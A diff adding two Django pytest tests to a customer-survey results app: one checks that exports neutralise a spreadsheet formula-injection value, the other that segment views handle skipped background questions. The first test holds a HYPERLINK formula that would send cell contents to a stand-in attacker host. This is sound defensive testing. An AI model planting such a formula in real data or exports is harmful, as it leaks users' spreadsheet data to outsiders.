@@ -147,3 +147,65 @@ def test_the_page_speaks_english_after_the_language_switch(
     assert "What customers wrote" in html and "Trend over time" in html
     swedish = _client(personas, "manager_a").get(UNIT_A + "?survey=nki").content.decode()
     assert "Resultat för Hemtjänst Norr" in swedish and "Utveckling över tid" in swedish
+
+
+@pytest.mark.django_db
+def test_a_unit_name_written_as_a_formula_is_text_in_the_xlsx_and_quoted_in_the_csv(
+    personas: dict[str, Any], results: dict[str, int]
+) -> None:
+    from kundpuls.web.org.models import Unit
+
+    formula = '=HYPERLINK("http://angripare.example/?"&B3,"Personal")'
+    Unit.objects.filter(code="VOF-HT-S").update(name=formula)
+    client = _client(personas, "admin")
+    book = load_workbook(io.BytesIO(client.get(UNIT_A + "tabeller.xlsx?survey=nki").content))
+    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row if c.value is not None]
+    assert formula in [c.value for c in cells]
+    assert not [c.coordinate for c in cells if c.data_type == "f"]
+    csv_text = client.get(UNIT_A + "tabeller.csv?survey=nki").content.decode()
+    assert "'=HYPERLINK(" in csv_text and ',"=HYPERLINK' not in csv_text and "\n=HYPERLINK" not in csv_text
+
+
+@pytest.mark.django_db
+def test_segments_work_when_some_respondents_skipped_the_background_questions(
+    personas: dict[str, Any], results: dict[str, int]
+) -> None:
+    import uuid
+    from datetime import UTC, datetime
+
+    from kundpuls.web.org.actors import DEMO
+    from kundpuls.web.org.models import Unit
+    from kundpuls.web.responses.actions import IncomingResponse, import_responses
+    from kundpuls.web.responses.lake import sync_to_lake
+    from kundpuls.web.surveys.models import Distribution, Survey
+    from kundpuls.web.surveys.queries import current_version
+
+    survey = Survey.objects.get(key="nki")
+    version = current_version(survey)
+    assert version is not None
+    link = Distribution.objects.filter(survey=survey, unit=Unit.objects.get(code="VOF-HT-N")).first()
+    answers = {
+        "tjanst": "socialtjanst",
+        "nki_helhet": 7,
+        "nki_forvantan": 6,
+        "nki_ideal": 6,
+    }  # no kanal/alder/kon
+    skipped = [
+        IncomingResponse(
+            distribution=link,
+            submission_id=uuid.uuid4(),
+            answers=answers,
+            language="sv",
+            submitted_at=datetime(2026, 6, 1, 10, tzinfo=UTC),
+        )
+        for _ in range(3)
+    ]
+    import_responses(version, skipped, actor=DEMO)
+    sync_to_lake()
+    client = _client(personas, "admin")
+    for segment in ("kanal", "alder", "kon"):
+        for suffix in ("", "tabeller.xlsx", "tabeller.csv"):
+            response = client.get(UNIT_A + suffix, {"survey": "nki", "segment": segment})
+            assert response.status_code == 200, (segment, suffix)
+    page = client.get(UNIT_A, {"survey": "nki", "segment": "kon"}).content.decode()
+    assert "nan" not in re.findall(r'<option value="([^"]*)"', page)
